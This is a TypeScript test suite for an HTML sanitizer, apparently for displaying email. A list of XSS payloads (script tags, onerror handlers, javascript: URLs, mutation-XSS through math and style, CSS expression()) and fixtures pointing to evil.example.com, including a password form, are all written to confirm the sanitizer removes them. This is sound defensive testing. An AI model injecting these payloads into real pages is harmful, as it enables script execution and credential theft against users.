import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { safeHtml } from './safe-html.ts';

const harmful: [string, string][] = [
  ['programs', '<script>alert(1)</script><b>x</b>'],
  ['drawn pictures', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>'],
  ['formulas', '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>'],
  ['what is done on an event', '<img src=x onerror=alert(1)><p onclick=alert(1)>x</p>'],
  ['links that are programs', '<a href="javascript:alert(1)">x</a><a href=" jav&#x0A;ascript:alert(1)">y</a>'],
  ['links that are pages', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['another base', '<base href="https://evil.example.com/"><a href="/x">x</a>'],
  ['a page that goes on by itself', '<meta http-equiv="refresh" content="0;url=https://evil.example.com">'],
  ['forms', '<form action="https://evil.example.com"><input name=p type=password><button>x</button></form>'],
  ['frames and objects', '<iframe src="https://evil.example.com"></iframe><object data=x></object><embed src=x>'],
  [
    'style sheets',
    '<style>@import url(https://evil.example.com/x.css)</style><link rel=stylesheet href=//evil.example.com>',
  ],
  ['styles that load', '<p style="background:url(https://evil.example.com/x);color:red">x</p>'],
  ['styles that lie over others', '<div style="position:fixed;top:0;left:0;z-index:9;margin:-999px">x</div>'],
  ['styles that run', '<p style="width:expression(alert(1));behavior:url(#x)">x</p>'],
  ['comments that are read', '<!--[if gte mso 9]><xml><o:x>1</o:x></xml><![endif]-->'],
];
for (const [name, html] of harmful) {
  test(`takes ${name} out`, () => {
    const { html: safe } = safeHtml(html);
    assert.doesNotMatch(
      safe,
      /script|onerror|onclick|alert\(1\)<|evil|<(?:form|input|iframe|object|embed|style|link|meta|base|svg|math)/i,
    );
    assert.doesNotMatch(safe, /url\(|position|expression|behavior|margin:-/i);
  });
}

const pieces = [
  '<',
  '>',
  '"',
  "'",
  '=',
  ' ',
  '/',
  'img',
  'src',
  'onload',
  'script',
  'svg',
  'a href',
  'javascript:',
  'style',
  '&#58;',
  '<!--',
  '-->',
  '<![CDATA[',
  ']]>',
  'url(',
  'http://x',
  '<div ',
  '</div>',
  '`',
  '\u0000',
  '<table>',
  '<title>',
  'cid:1',
];

test('whatever is written, nothing of it runs or loads', () => {
  const piece = fc.constantFrom(...pieces);
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (written) => {
      const tags = safeHtml(written.join('')).html.match(/<[a-z][^>]*>/gi) ?? [];
      for (const tag of tags) assert.doesNotMatch(tag, /\son\w+=|javascript:|<script|\ssrc="(?!cid:)/i);
    }),
    { numRuns: 500 },
  );
});

test('keeps what makes a text readable', () => {
  const html =
    '<p style="color:#f00;font-size:14px">红<b>粗</b></p><table border="1"><tbody><tr><td colspan="2">格</td></tr></tbody></table><ul><li>项</li></ul>';
  assert.equal(safeHtml(html).html, html.replace('color:#f00;font-size:14px', 'color:#f00;font-size:14px'));
});

test('a link opens beside ours, and is not told where it was pressed', () => {
  const { html } = safeHtml('<a href="https://example.com/x">x</a>');
  assert.match(html, /target="_blank" rel="noopener noreferrer nofollow"/);
});

test('counts pictures that lie elsewhere, and shows those that came along', () => {
  const { html, outsidePictures } = safeHtml(
    '<img src="cid:a@b" alt="图"><img src="https://x.example.com/logo.png" alt="标志"><img src="//x.example.com/o.gif" width=1 height=1>',
  );
  assert.equal(outsidePictures, 2);
  assert.equal(html, '<img alt="图" src="cid:a@b" /><img alt="标志" /><wbr></wbr>');
});

test('takes pictures that are written into the text as files, and no drawn ones', () => {
  const { html, inlinePictures } = safeHtml(
    '<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml;base64,PHN2Zz4=">',
  );
  assert.deepEqual(
    inlinePictures.map(({ contentId, content }) => [contentId, content.length]),
    [['inline-1', 8]],
  );
  assert.equal(html, '<img src="cid:inline-1" /><img />');
});

test('folds what is quoted, and what claims to be folded is shown', () => {
  const { html } = safeHtml(
    '<p>新</p><blockquote type="cite">旧</blockquote><details><summary>点我</summary>x</details>',
  );
  assert.equal(html, '<p>新</p><details><summary></summary>旧</details><div>点我x</div>');
});
